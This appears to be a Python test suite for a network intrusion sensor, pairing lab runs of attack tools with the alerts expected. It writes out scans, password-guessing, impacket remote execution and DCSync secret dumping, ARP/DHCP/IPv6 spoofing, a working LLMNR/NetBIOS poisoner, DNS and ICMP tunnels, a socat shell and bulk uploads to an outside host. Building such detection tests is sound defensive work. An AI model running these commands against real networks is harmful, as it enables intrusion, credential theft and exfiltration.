"""The cases of behaviour_tools: a tool at work, and what the sensor has to say about it."""
import time

import tools_servers as servers
from tools_site import BAD, DC, GATE, LAN, OUT, PC, SIX, need

CASES = []


class Case:
    def __init__(self, name, hits, act, also=(), sample=False):
        self.name, self.hits, self.act, self.also, self.sample = name, hits, act, set(also), sample


def case(name, hits=None, also=(), sample=False):
    """`hits`: id -> (attacker, victim); None in it: whoever. `also`: what is true as well, if seen."""
    def add(act):
        CASES.append(Case(name, hits or {}, act, also, sample))
        return act
    return add


def tool(name, hits, host, *words, also=(), sample=False, seconds=60):
    case(name, hits, also, sample)(lambda s: s.do(host, *words, seconds=seconds))


# --- scans ---
NET = "10.77.0.0/24"
for title, flag, hit in (("connect", "-sT", 2201), ("SYN", "-sS", 2201), ("FIN", "-sF", 2202), ("XMAS", "-sX", 2202),
                         ("NULL", "-sN", 2202), ("Maimon", "-sM", 2202), ("ACK", "-sA", 2201),
                         ("window", "-sW", 2201)):
    tool(f"nmap {title} scan of ports", {hit: (BAD, LAN)}, "bad", "nmap", "-n", "-Pn", flag, "--top-ports", "300",
         LAN, sample=flag in ("-sT", "-sX"))
tool("nmap UDP scan of ports", {2201: (BAD, LAN)}, "bad", "nmap", "-n", "-Pn", "-sU", "--top-ports", "60",
     "--max-retries", "0", LAN)
tool("nmap SCTP scan of ports", {2201: (BAD, LAN)}, "bad", "nmap", "-n", "-Pn", "-sY", "--top-ports", "50", LAN)
tool("nmap IP protocol scan", {2205: (BAD, LAN)}, "bad", "nmap", "-n", "-Pn", "-sO", LAN, also={2201}, seconds=20)
tool("nmap decoys", {2201: (None, LAN)}, "bad", "nmap", "-n", "-Pn", "-sS", "-D", "10.77.0.101,10.77.0.102,ME",
     "--top-ports", "200", LAN)
tool("nmap fragments", {2201: (BAD, LAN)}, "bad", "nmap", "-n", "-Pn", "-sS", "-f", "--top-ports", "200", LAN)
tool("nmap SYN over IPv6", {2201: (SIX["bad"], SIX["lan"])}, "bad", "nmap", "-6", "-n", "-Pn", "-sS", "--top-ports",
     "200", SIX["lan"])
tool("nmap polite", {2201: (BAD, LAN)}, "bad", "nmap", "-n", "-Pn", "-sS", "-T2", "--top-ports", "60", LAN,
     seconds=40)
tool("nmap versions and system", {2201: (BAD, LAN)}, "bad", "nmap", "-n", "-Pn", "-A", "--top-ports", "150", LAN,
     also={2202, 2206}, seconds=90)
tool("nmap one port of the network", {2200: (BAD, None)}, "bad", "nmap", "-n", "-Pn", "-sS", "-p", "445",
     "--send-ip", "198.51.100.10-49")
tool("nmap ARP sweep", {2204: (BAD, None)}, "bad", "nmap", "-n", "-sn", "-PR", NET, sample=True)
tool("nmap ICMP sweep", {2203: (BAD, None)}, "bad", "nmap", "-n", "-sn", "-PE", "--send-ip", "198.51.100.0/24")
tool("nmap timestamp sweep", {2203: (BAD, None)}, "bad", "nmap", "-n", "-sn", "-PP", "--send-ip", "198.51.100.0/24")
tool("nmap SYN sweep", {2200: (BAD, None)}, "bad", "nmap", "-n", "-sn", "-PS443", "--send-ip", "198.51.100.0/24",
     also={2204})
tool("nmap UDP sweep", {2200: (BAD, None)}, "bad", "nmap", "-n", "-sn", "-PU53", "--send-ip", "198.51.100.0/24",
     also={2204})
tool("nmap idle scan's probes", {}, "bad", "nmap", "-n", "-Pn", "-p", "22,80", "-sI", PC, LAN, seconds=20)
tool("masscan", {2201: (BAD, None)}, "bad", "masscan", "--adapter-ip", BAD, "--router-mac", "02-77-00-00-00-05",
     "--interface", "eth0", "-p1-400", "198.51.100.10-198.51.100.12", "--rate", "1000", "--wait", "1", also={2200}, seconds=20)
tool("masscan one port", {2200: (BAD, None)}, "bad", "masscan", "--adapter-ip", BAD, "--router-mac",
     "02-77-00-00-00-05", "--interface", "eth0", "-p3389", "198.51.100.0/24", "--rate", "300", "--wait", "1")
tool("zmap", {2200: (BAD, None)}, "bad", "zmap", "-i", "eth0", "-G", "02:77:00:00:00:05", "-p", "80", "-r", "300",
     "-c", "1", "-b", "/dev/null", "-o", "zmap.out", "198.51.100.0/24")
tool("hping3 SYN over ports", {2201: (BAD, LAN)}, "bad", "hping3", "-S", "--scan", "1-200", LAN, seconds=20)
tool("hping3 FIN+PUSH+URG over ports", {2202: (BAD, LAN)}, "bad", "hping3", "-F", "-P", "-U", "-p", "++1", "-c", "60",
     "-i", "u20000", LAN, seconds=10)
tool("hping3 UDP over ports", {2201: (BAD, LAN)}, "bad", "hping3", "-2", "-p", "++1000", "-c", "80", "-i", "u20000",
     LAN, seconds=10)
tool("arp-scan", {2204: (BAD, None)}, "bad", "arp-scan", "-I", "eth0", NET, sample=True)
tool("netdiscover", {2204: (None, None)}, "bad", "netdiscover", "-P", "-N", "-i", "eth0", "-r", NET, seconds=15)
tool("fping over the network", {2203: (BAD, None)}, "bad", "fping", "-q", "-r", "0", "-i", "5", "-g", "198.51.100.1",
     "198.51.100.120")
tool("pnscan", {2200: (BAD, None)}, "bad", "pnscan", "-n8", "198.51.100.10:198.51.100.49", "22")
tool("nbtscan", {2200: (BAD, None)}, "bad", "nbtscan", "198.51.100.0/25", seconds=20, also={2204})
tool("alive6 over a range", {}, "bad", "atk6-alive6", "-Z", "02:77:00:00:00:03", "eth0", "fd77::100-140", seconds=15,
     also={2203, 2204})


# --- guessing ---
def lists(s):
    words = [f"wrong{i}" for i in range(40)]
    names = [f"user{i}" for i in range(24)]
    return s.file("words", "\n".join(words) + "\n"), s.file("names", "\n".join(names) + "\n")


def guess(name, hits, server, address, *command, also=(), sample=False, seconds=150):
    """`@words` and `@names` in the command are the lists."""
    def act(s):
        words, names = lists(s)
        server(s)
        s.do("bad", *[str(w).replace("@words", str(words)).replace("@names", str(names)) for w in command], seconds=seconds)
    # Slow machines guess slowly.
    case(name, {k: (BAD, address) for k in hits}, set(also) | {2215}, sample)(act)


guess("hydra ssh", [2213], servers.sshd, LAN, "hydra", "-I", "-t", "4", "-l", "root", "-P", "@words", f"ssh://{LAN}")
guess("medusa ssh", [2213], servers.sshd, LAN, "medusa", "-h", LAN, "-u", "root", "-P", "@words", "-M", "ssh", "-t", "4",
      sample=True)
guess("ncrack ssh", [2213], servers.sshd, LAN, "ncrack", "-u", "root", "-P", "@words", f"ssh://{LAN}")
guess("patator ssh", [2213], servers.sshd, LAN, "patator", "ssh_login", f"host={LAN}", "user=root", "password=FILE0",
      "0=@words", "-t", "4")
guess("ssh on another port", [2213], lambda s: servers.sshd(s, port=2200), LAN, "hydra", "-I", "-t", "4", "-s", "2200", "-l",
      "root", "-P", "@words", f"ssh://{LAN}", also={2120, 2121})
guess("hydra ftp", [2210], servers.ftpd, LAN, "hydra", "-I", "-t", "8", "-l", "root", "-P", "@words", f"ftp://{LAN}",
      also={2130, 2213})
guess("medusa ftp", [2210], servers.ftpd, LAN, "medusa", "-h", LAN, "-u", "root", "-P", "@words", "-M", "ftp", "-t", "8",
      also={2130, 2213})
guess("hydra ftp names", [2211], servers.ftpd, LAN, "hydra", "-I", "-t", "8", "-L", "@names", "-p", "wrong", f"ftp://{LAN}",
      also={2130, 2213})
guess("hydra imap", [2210], servers.mail, LAN, "hydra", "-I", "-t", "4", "-l", "alice", "-P", "@words", f"imap://{LAN}",
      also={2130, 2213}, sample=True)
guess("hydra pop3", [2210], servers.mail, LAN, "hydra", "-I", "-t", "4", "-l", "alice", "-P", "@words", f"pop3://{LAN}",
      also={2130, 2213})
guess("ncrack pop3", [2210], servers.mail, LAN, "ncrack", "-u", "alice", "-P", "@words", f"pop3://{LAN}", also={2130, 2213})
guess("medusa imap", [2210], servers.mail, LAN, "medusa", "-h", LAN, "-u", "alice", "-P", "@words", "-M", "imap", "-t", "4",
      also={2130, 2213})
guess("hydra ldap", [2210], servers.ldap, LAN, "hydra", "-I", "-t", "4", "-l", "cn=admin,dc=site", "-P", "@words",
      f"ldap3://{LAN}", also={2130})
guess("patator ldap", [2210], servers.ldap, LAN, "patator", "ldap_login", f"host={LAN}", "binddn=cn=admin,dc=site",
      "bindpw=FILE0", "0=@words", "-t", "2", also={2130, 2213})
guess("hydra http basic", [2210], servers.pages, LAN, "hydra", "-I", "-t", "4", "-l", "root", "-P", "@words", f"http-get://{LAN}/private",
      also={2130})
guess("medusa http basic", [2210], servers.pages, LAN, "medusa", "-h", LAN, "-u", "root", "-P", "@words", "-M", "http", "-m", "DIR:private",
      "-t", "4", also={2130})
guess("hydra http form", [2210], servers.pages, LAN, "hydra", "-I", "-t", "4", "-l", "root", "-P", "@words", LAN, "http-post-form",
      "/login:user=^USER^&pass=^PASS^:incorrect", also={2130})
guess("medusa smb", [2210], servers.smbd, PC, "medusa", "-h", PC, "-u", "root", "-P", "@words", "-M", "smbnt", "-t", "2")
guess("ncrack smb", [2210], servers.smbd, PC, "ncrack", "-u", "root", "-P", "@words", f"smb://{PC}")
guess("ncrack rdp", [2213], servers.xrdp, PC, "ncrack", "-u", "root", "-P", "@words", f"rdp://{PC}", also={2212})
guess("hydra postgres", [2210], servers.postgres, LAN, "hydra", "-I", "-t", "4", "-l", "postgres", "-P", "@words", f"postgres://{LAN}",
      also={2213, 2130})
guess("hydra snmp", [2210], servers.snmpd, LAN, "hydra", "-I", "-t", "4", "-P", "@words", f"snmp://{LAN}")
guess("onesixtyone", [2210], servers.snmpd, LAN, "onesixtyone", "-c", "@words", LAN)
guess("gobuster", [2206], servers.pages, LAN, "gobuster", "dir", "-q", "-u", f"http://{LAN}/", "-w", "/usr/share/dirb/wordlists/small.txt")
guess("dirb", [2206], servers.pages, LAN, "dirb", f"http://{LAN}/", "/usr/share/dirb/wordlists/small.txt", "-S", "-r", seconds=15)


# --- remote execution and theft ---
IMPACKET = "/usr/share/doc/python3-impacket/examples"


def remote(name, hits, script, *arguments, also=(), data=None, seconds=75):
    def act(s):
        need(f"{IMPACKET}/{script}.py")
        servers.smbd(s)
        s.do("bad", "/usr/bin/python3", f"{IMPACKET}/{script}.py", *arguments, seconds=seconds, data=data)
    case(name, {k: (BAD, PC) for k in hits}, also)(act)


remote("psexec", [2230], "psexec", f"root:right@{PC}", "whoami", also={2239, 2250})
remote("smbexec", [2230], "smbexec", f"root:right@{PC}", also={2250, 2239}, data=b"whoami\nexit\n")
remote("services created", [2230], "services", f"root:right@{PC}", "create", "-name", "x", "-display", "x", "-path",
       "c:\\x.exe", also={2239})
remote("services listed", [], "services", f"root:right@{PC}", "list", also={2239})
remote("secrets of the registry, which Samba has not", [], "secretsdump", f"root:right@{PC}", also={2230, 2239, 2250, 2235})
remote("accounts by SAMR", [2239], "samrdump", f"root:right@{PC}")
remote("endpoint mapper read", [], "rpcdump", f"{PC}", also={2240})


def in_domain(s, *command, seconds=40, data=None):
    s.file("krb5.conf", f"[libdefaults]\ndefault_realm=SITE.EXAMPLE\ndns_lookup_kdc=false\n[realms]\nSITE.EXAMPLE={{\nkdc={DC}\n}}\n")
    s.do("bad", "env", f"KRB5_CONFIG={s.folder}/krb5.conf", f"KRB5CCNAME={s.folder}/tickets", *command,
         seconds=seconds, data=data)


def domain(name, hits, *command, also=(), **more):
    def act(s):
        servers.controller(s)
        in_domain(s, *command, **more)
    case(name, {k: (BAD, DC) for k in hits}, also)(act)


ADMIN = f"SITE/Administrator:Right-1234@{DC}"
domain("domain: DCSync", [2235], "/usr/bin/python3", f"{IMPACKET}/secretsdump.py", "-just-dc", ADMIN, also={2239})
domain("domain: accounts by their numbers", [2239], "/usr/bin/python3", f"{IMPACKET}/lookupsid.py", ADMIN, "1200")
domain("domain: Kerberos passwords", [2210], "sh", "-c", "for i in $(seq 16); do echo wrong$i | kinit Administrator; done")
domain("domain: Kerberos account names", [2211], "sh", "-c", "for i in $(seq 16); do echo wrong | kinit nobody$i; done", also={2212})
@case("domain: tickets of services for cracking", {2214: (BAD, DC)}, also={2130})
def roast(s):
    servers.controller(s)
    conf = s.folder / "ad/etc/smb.conf"
    for i in range(5):
        s.do("dc", "samba-tool", "user", "create", f"svc{i}", "Right-1234", "-s", conf)
        s.do("dc", "samba-tool", "spn", "add", f"http/web{i}", f"svc{i}", "-s", conf)
    in_domain(s, "sh", "-c", "echo Right-1234 | kinit Administrator; for i in 0 1 2 3 4; do kvno -e rc4-hmac http/web$i; done")


domain("domain: a Kerberos login", [], "sh", "-c", "echo Right-1234 | kinit Administrator", also={2130})


@case("smbclient in everyday use", also={2239})
def smb_day(s):
    servers.smbd(s)
    for _ in range(3):
        s.do("lan", "smbclient", "-L", f"//{PC}", "-U", "root%right")


# --- forged answers ---
@case("arpspoof", {2510: (BAD, GATE)}, also={2204}, sample=True)
def arpspoof(s):
    s.begin("pc", "fping", "-l", "-p", "400", GATE)
    # It has an address of its own, which it asks by.
    s.net.inside("bad", "ip", "neigh", "flush", "dev", "eth0")
    s.do("bad", "fping", "-c", "2", DC, seconds=5)
    s.do("bad", "arpspoof", "-i", "eth0", "-t", PC, GATE, seconds=14)


@case("ettercap", {2510: (BAD, None)}, also={2204})
def ettercap(s):
    s.begin("pc", "fping", "-l", "-p", "400", GATE)
    s.do("bad", "ettercap", "-T", "-q", "-i", "eth0", "-M", "arp:remote", f"/{PC}//", f"/{GATE}//", seconds=25)


RADVD = "interface eth0 {{ AdvSendAdvert on; MinRtrAdvInterval 3; MaxRtrAdvInterval 4; prefix {0}::/64 {{ }}; }};\n"


def radvd(s, host, prefix):
    conf = s.file(f"radvd-{host}", RADVD.format(prefix))
    conf.chmod(0o600)
    s.net.inside(host, "sysctl", "-qw", "net.ipv6.conf.all.forwarding=1", check=False)
    s.begin(host, "/usr/sbin/radvd", "-n", "-C", conf, "-p", s.folder / f"radvd-{host}.pid", "-m", "stderr")


@case("rogue radvd beside the router's", {2512: (None, None)})
def rogue_radvd(s):
    radvd(s, "gate", "fd77")
    time.sleep(5)
    radvd(s, "bad", "fd66")
    time.sleep(7)


@case("the router's radvd alone")
def one_radvd(s):
    radvd(s, "gate", "fd77")
    time.sleep(6)


@case("fake_router6 beside the router", {2512: (None, None)}, also={2510})
def fake_router(s):
    radvd(s, "gate", "fd77")
    time.sleep(5)
    s.do("bad", "atk6-fake_router6", "eth0", "fd66::/64", seconds=8)


@case("flood_router6", {2512: (None, None)}, also={2510})
def flood_router(s):
    s.do("bad", "atk6-flood_router6", "eth0", seconds=2)


@case("fake_advertise6", {2510: (None, None)}, also={2204})
def fake_advertise(s):
    s.begin("pc", "fping", "-6", "-l", "-p", "500", SIX["gate"])
    for _ in range(3):
        s.do("bad", "atk6-fake_advertise6", "eth0", SIX["gate"], "ff02::1", seconds=5)
        s.net.inside("pc", "ip", "neigh", "flush", "dev", "eth0")
        time.sleep(1)


def dnsmasq(s, host, first, *more):
    s.begin(host, "/usr/sbin/dnsmasq", "-d", "-C", "/dev/null", "--port=0", "-i", "eth0", "--bind-interfaces",
            f"--dhcp-range=10.77.0.{first},10.77.0.{first + 9},600", "--dhcp-leasefile=/dev/null", *more)
    s.net.wait(lambda: s.listens(host, 67, "-u"), f"dnsmasq in {host}", 30)


def lease(s, host, times=1):
    for i in range(times):
        s.do(host, "dhclient", "-4", "-1", "-d", "-sf", "/bin/true", "-lf", s.folder / f"lease-{host}-{i}", "-pf",
             s.folder / f"dhclient-{host}-{i}", "eth0", seconds=20)


@case("second DHCP server", {2511: (None, None)})
def second_dhcp(s):
    dnsmasq(s, "gate", 200)
    time.sleep(1)
    lease(s, "pc")
    dnsmasq(s, "bad", 220, "--dhcp-option=3,10.77.0.66", "--dhcp-authoritative", "--no-ping")
    time.sleep(1)
    lease(s, "pc", 3)


@case("one DHCP server")
def one_dhcp(s):
    dnsmasq(s, "gate", 200)
    time.sleep(1)
    lease(s, "pc", 2)


# Answers every question for a name by LLMNR and NetBIOS with its own address, as poisoners do.
POISON = r"""
import socket, struct, sys, threading
me = socket.inet_aton(sys.argv[1])
def serve(port, group, answer):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    s.bind(("", port))
    if group:
        s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(group) + me)
    while True:
        data, who = s.recvfrom(2000)
        if len(data) > 12 and not data[2] & 0x80 and who[0] != sys.argv[1]:
            s.sendto(answer(data), who)
def llmnr(d):
    return d[:2] + b"\x80\0\0\1\0\1\0\0\0\0" + d[12:] + b"\xc0\x0c\0\1\0\1\0\0\0\x1e\0\4" + me
def nbns(d):
    return d[:2] + b"\x85\0\0\0\0\1\0\0\0\0" + d[12:46] + b"\0\x20\0\1\0\0\0\xa5\0\6\0\0" + me
threading.Thread(target=serve, args=(5355, "224.0.0.252", llmnr), daemon=True).start()
serve(137, None, nbns)
"""
# A host that looks names up by LLMNR or NetBIOS: ADDRESS KIND NAME...
LOOKUP = r"""
import socket, struct, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(sys.argv[1]))
s.bind((sys.argv[1], 0))
for i, name in enumerate(sys.argv[3:]):
    head = struct.pack("!HHHHHH", 100 + i, 0 if sys.argv[2] == "llmnr" else 0x110, 1, 0, 0, 0)
    if sys.argv[2] == "llmnr":
        s.sendto(head + bytes([len(name)]) + name.encode() + b"\0\0\1\0\1", ("224.0.0.252", 5355))
    else:
        half = b"".join(bytes([65 + (c >> 4), 65 + (c & 15)]) for c in name.upper().ljust(15).encode() + b"\0")
        s.sendto(head + b"\x20" + half + b"\0\0\x20\0\1", ("10.77.0.255", 137))
    time.sleep(.3)
"""


def poisoned(kind):
    def act(s):
        import sys
        s.begin("bad", sys.executable, "-c", POISON, BAD)
        time.sleep(0.7)
        s.python("pc", LOOKUP, PC, kind, "filesrv", "wpad", "printer", "intranet", "typo")
    return act


case("LLMNR poisoned", {2513: (BAD, None)}, sample=True)(poisoned("llmnr"))
case("NetBIOS names poisoned", {2513: (BAD, None)})(poisoned("nbns"))


# --- tunnels ---
@case("iodine", {2310: (BAD, None)}, also={2120, 2122, 2500})
def iodine(s):
    s.begin("out", "iodined", "-f", "-c", "-P", "secret", "10.99.0.1", "t.example.org")
    time.sleep(1)
    s.begin("bad", "iodine", "-f", "-r", "-P", "secret", OUT, "t.example.org")
    time.sleep(12)
    s.do("bad", "fping", "-c", "20", "-p", "200", "-b", "400", "10.99.0.1", seconds=8)


@case("dns2tcp", {2310: (BAD, None)}, also={2500})
def dns2tcp(s):
    servers.sshd(s, "out")
    conf = s.file("dns2tcpd.conf", f"listen = {OUT}\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = d.example.org\n"
                  "resources = ssh:127.0.0.1:22\n")
    s.begin("out", "dns2tcpd", "-F", "-d", "1", "-f", conf)
    time.sleep(1)
    s.begin("bad", "dns2tcpc", "-z", "d.example.org", "-r", "ssh", "-l", "2222", OUT)
    time.sleep(1)
    s.do("bad", "ssh", "-p", "2222", *servers.ssh_key(s), "root@127.0.0.1", "ls -lR /usr/share/doc | head -300", seconds=20)


# Data in names at a steady pace, hex labels and TXT answers, through a resolver or straight.
TXT_TUNNEL = r"""
import os, socket, struct, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(.3)
for i in range(60):
    name = os.urandom(28).hex()[:56] + ".c2.example.net"
    q = struct.pack("!HHHHHH", i, 0x100, 1, 0, 0, 0)
    q += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0\0\x10\0\1"
    s.sendto(q, (sys.argv[1], 53))
    try: s.recv(2000)
    except OSError: pass
    time.sleep(.05)
"""
TXT_SERVER = r"""
import os, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((sys.argv[1], 53))
while True:
    d, who = s.recvfrom(2000)
    text = os.urandom(40).hex().encode()
    s.sendto(d[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + d[12:] + b"\xc0\x0c\0\x10\0\1\0\0\0\5"
             + bytes([0, len(text) + 1, len(text)]) + text, who)
"""


@case("data in TXT questions", {2310: (BAD, None)}, sample=True)
def txt_tunnel(s):
    import sys
    s.begin("out", sys.executable, "-c", TXT_SERVER, OUT)
    time.sleep(.7)
    s.python("bad", TXT_TUNNEL, OUT)


@case("ptunnel", {2330: (BAD, None)}, also={2121, 2331})
def ptunnel(s):
    servers.sshd(s, "out")
    s.begin("out", "ptunnel")
    time.sleep(1)
    s.begin("bad", "ptunnel", "-p", OUT, "-lp", "8022", "-da", OUT, "-dp", "22")
    time.sleep(1)
    s.do("bad", "ssh", "-p", "8022", *servers.ssh_key(s), "root@127.0.0.1", "ls -lR /usr/share/doc | head -300", seconds=20)


@case("ssh on 443", {2121: (BAD, OUT)}, sample=True)
def ssh_443(s):
    servers.sshd(s, "out", 443)
    s.do("bad", "ssh", "-p", "443", *servers.ssh_key(s), f"root@{OUT}", "ls -lR /usr/share/doc | head -100", seconds=20)


@case("socat shell on 443", {2122: (BAD, "198.51.100.12")})
def socat_443(s):
    s.begin("out", "socat", "TCP-LISTEN:443,bind=198.51.100.12,reuseaddr,fork", "SYSTEM:yes id \\; ls -l | head -200")
    time.sleep(.6)
    s.do("bad", "socat", "-u", "TCP:198.51.100.12:443", "/dev/null", seconds=8)


def proxy(s):
    conf = s.file("tinyproxy.conf", f"User nobody\nPort 3128\nListen {LAN}\nTimeout 60\nAllow 10.0.0.0/8\nPidFile \"{s.folder}/tiny.pid\"\n"
                  "LogLevel Critical\n")
    s.serve("lan", "proxy", 3128, ["tinyproxy", "-d", "-c", conf])


@case("ssh through a proxy", {2331: (BAD, LAN)}, also={2120})
def proxytunnel(s):
    proxy(s)
    servers.sshd(s, "out")
    s.do("bad", "ssh", "-o", f"ProxyCommand=proxytunnel -q -p {LAN}:3128 -d {OUT}:22", *servers.ssh_key(s), f"root@{OUT}",
         "ls -lR /usr/share/doc | head -100", seconds=20)


@case("web through a proxy")
def proxied_web(s):
    proxy(s)
    servers.pages(s, "out", OUT, 80)
    for i in range(20):
        s.do("pc", "curl", "-s", "-x", f"http://{LAN}:3128", f"http://{OUT}/page{i}", "-o", "/dev/null")


# --- calls home ---
CALLS = r"""
import random, sys, time, urllib.request
count, pause, spread = int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
for _ in range(count):
    urllib.request.urlopen(sys.argv[1], timeout=5).read()
    time.sleep(pause * (1 + random.uniform(-spread, spread)))
"""


@case("calls by the clock, a fifth more or less", {2300: (BAD, OUT)}, also={2302})
def beacon(s):
    servers.pages(s, "out", OUT, 80)
    s.python("bad", CALLS, f"http://{OUT}/beat", 22, 2.2, 0.2, seconds=80)


@case("a person's calls")
def no_beacon(s):
    servers.pages(s, "out", OUT, 80)
    s.python("pc", CALLS.replace("pause * (1 + random.uniform(-spread, spread))", "random.expovariate(1 / pause)"),
             f"http://{OUT}/page", 25, 1.5, 0)


# Domains made from a seed: none exists.
DGA = r"""
import random, socket, struct, sys, time
r = random.Random(5); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(.3)
for i in range(40):
    name = "".join(r.choices("abcdefghijklmnopqrstuvwxyz", k=r.randint(10, 16))) + r.choice([".com", ".net", ".info"])
    s.sendto(struct.pack("!HHHHHH", i, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
             + b"\0\0\1\0\1", (sys.argv[1], 53))
    try: s.recv(2000)
    except OSError: pass
    time.sleep(.05)
"""


def resolver(s, host, address):
    s.serve(host, "resolver", 53, ["/usr/sbin/dnsmasq", "-d", "-C", "/dev/null", "--no-resolv", "--no-hosts", "-a", address,
                                   "--bind-interfaces", "--address=/site.example/10.77.0.20", "--local=/com/net/info/org/"], udp=True)


@case("made-up domains", {2320: (BAD, None)}, sample=True)
def dga(s):
    resolver(s, "gate", GATE)
    s.python("bad", DGA, GATE)


MINER = r"""
import json, socket, sys, time
with socket.create_connection((sys.argv[1], 3333), timeout=5) as c:
    for n in range(6):
        c.sendall(json.dumps({"id": n + 1, "jsonrpc": "2.0", "method": "login" if n == 0 else "submit", "params": {
            "login": "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", "pass": "x",
            "agent": "miner/1"}}).encode() + b"\n")
        c.recv(2000)
        time.sleep(.3)
"""
POOL = r"""
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((sys.argv[1], 3333)); s.listen(5)
while True:
    c, _ = s.accept()
    while c.recv(2000):
        c.sendall(b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"status":"OK"}}\n')
"""


@case("a miner at a pool", {2600: (BAD, OUT)}, sample=True)
def miner(s):
    import sys
    s.begin("out", sys.executable, "-c", POOL, OUT)
    time.sleep(.7)
    s.python("bad", MINER, OUT)


@case("BitTorrent's node search", {2601: (BAD, None)}, also={2200})
def torrent(s):
    nodes = ",".join(f"198.51.100.{i}" for i in range(10, 30))
    s.python("bad", r"""
import os, socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("", 6881))
for a in sys.argv[1].split(","):
    s.sendto(b"d1:ad2:id20:" + os.urandom(20) + b"6:target20:" + os.urandom(20) + b"e1:q9:find_node1:t2:aa1:y1:qe", (a, 6881))
    time.sleep(.05)
""", nodes)


# --- out ---
@case("60 MB sent to one place outside", {2400: (BAD, OUT)}, also={2302, 2410})
def upload(s):
    servers.pages(s, "out", OUT, 80)
    big = s.folder / "big"
    with open(big, "wb") as f:
        f.truncate(62 << 20)
    s.do("bad", "curl", "-s", "-T", big, f"http://{OUT}/put", "-o", "/dev/null", seconds=60)


@case("60 MB by scp outside", {2400: (BAD, OUT)}, also={2302, 2410})
def upload_scp(s):
    servers.sshd(s, "out")
    big = s.folder / "big"
    with open(big, "wb") as f:
        f.truncate(62 << 20)
    s.do("bad", "scp", *servers.ssh_key(s), big, f"root@{OUT}:/dev/null", seconds=60)


@case("a backup inside")
def backup(s):
    servers.sshd(s)
    big = s.folder / "big"
    with open(big, "wb") as f:
        f.truncate(300 << 20)
    s.do("pc", "scp", *servers.ssh_key(s), big, f"root@{LAN}:/dev/null", seconds=100)


# --- everyday ---
tool("nmap of one port of one host", {}, "bad", "nmap", "-n", "-Pn", "-p", "443", LAN, sample=True)
tool("nmap of ten ports of one host", {}, "bad", "nmap", "-n", "-Pn", "--top-ports", "10", LAN)


@case("a browser with 200 connections", sample=True)
def browser(s):
    servers.pages(s, "out", OUT, 80)
    for i in range(10):
        servers.pages(s, "out", f"198.51.100.{11 + i}", 80) if ("out", f"pages{i}") in s.servers else None
    s.python("pc", r"""
import sys, threading, urllib.request
def get(i):
    try: urllib.request.urlopen(f"http://{sys.argv[1]}/page{i}", timeout=5).read()
    except OSError: pass
for turn in range(20):
    t = [threading.Thread(target=get, args=(turn * 10 + i,)) for i in range(10)]
    [x.start() for x in t]; [x.join() for x in t]
""", OUT)


@case("one wrong password", sample=True)
def mistyped(s):
    servers.sshd(s)
    for _ in range(2):
        s.do("pc", "sshpass", "-p", "wrong", "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
             f"root@{LAN}", "true", seconds=20)


@case("a script's six ssh sessions")
def ssh_script(s):
    servers.sshd(s)
    for _ in range(6):
        s.do("pc", "ssh", *servers.ssh_key(s), f"root@{LAN}", "uptime", seconds=20)


@case("a mail reader every few seconds", also={2130})
def mail_reader(s):
    servers.mail(s)
    s.python("pc", r"""
import imaplib, sys, time
for _ in range(30):
    m = imaplib.IMAP4(sys.argv[1]); m.login("alice", "right"); m.select(); m.logout(); time.sleep(.2)
""", LAN, seconds=60)


@case("a web application at its database", also={2130})
def web_database(s):
    servers.postgres(s)
    for _ in range(25):
        s.do("pc", "env", "PGPASSWORD=right", "psql", "-h", LAN, "-U", "postgres", "-c", "select 1", seconds=10)


@case("a resolver's load")
def resolver_load(s):
    resolver(s, "gate", GATE)
    s.python("pc", r"""
import random, socket, struct, sys
words = "mail web news shop cloud video image data file time home work team office login static cdn api blog music".split()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(.3); r = random.Random(2)
for i in range(400):
    name = r.choice(words) + str(r.randint(1, 9)) + "." + r.choice(words) + ".site.example"
    s.sendto(struct.pack("!HHHHHH", i, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
             + b"\0\0\1\0\1", (sys.argv[1], 53))
    try: s.recv(2000)
    except OSError: pass
""", GATE)


@case("files fetched from a share", also={2239})
def share(s):
    servers.smbd(s)
    for _ in range(5):
        s.do("lan", "smbclient", f"//{PC}/files", "-U", "root%right", "-c", "ls; put /etc/services s.txt; get s.txt /dev/null")
